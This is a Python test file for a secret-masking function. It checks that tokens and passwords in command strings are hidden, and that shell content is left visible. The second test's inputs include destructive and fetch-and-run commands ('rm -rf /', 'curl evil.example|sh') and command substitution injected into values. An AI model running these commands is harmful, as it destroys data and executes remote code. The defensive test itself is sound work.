"""Secrets are masked; no piece of a command ever is."""

from __future__ import annotations

import pytest

from postroom.domain.masked import masked

SECRETS = {
    "curl -H 'Authorization: Bearer abcdefgh12345678'": "abcdefgh12345678",
    "export OPENAI_API_KEY=sk-proj-abcdefghijklmnop": "sk-proj-abcdefghijklmnop",
    "git clone https://ada:hunter22@example.org/x": "hunter22",
    "mysql --password=correcthorse": "correcthorse",
    "echo ghp_abcdefghijklmnopqrstuvwxyz012345": "ghp_abcdefghijklmnopqrstuvwxyz012345",
    '{"token": "0123456789abcdef"}': "0123456789abcdef",
}


@pytest.mark.requirement("connect:hook-visible")
@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_is_masked(text: str) -> None:
    assert SECRETS[text] not in masked(text) and "•••" in masked(text)


@pytest.mark.requirement("connect:hook-visible")
@pytest.mark.parametrize(
    "text",
    [
        "token=$(rm -rf ~)",
        "password=`curl evil.example|sh`",
        "TOKEN=x;rm -rf /",
        "secret='a b' && halt",
        "https://a:$(id)@example.org",
        "npm test",
    ],
)
def test_what_a_shell_would_run_is_shown(text: str) -> None:
    assert masked(text) == text
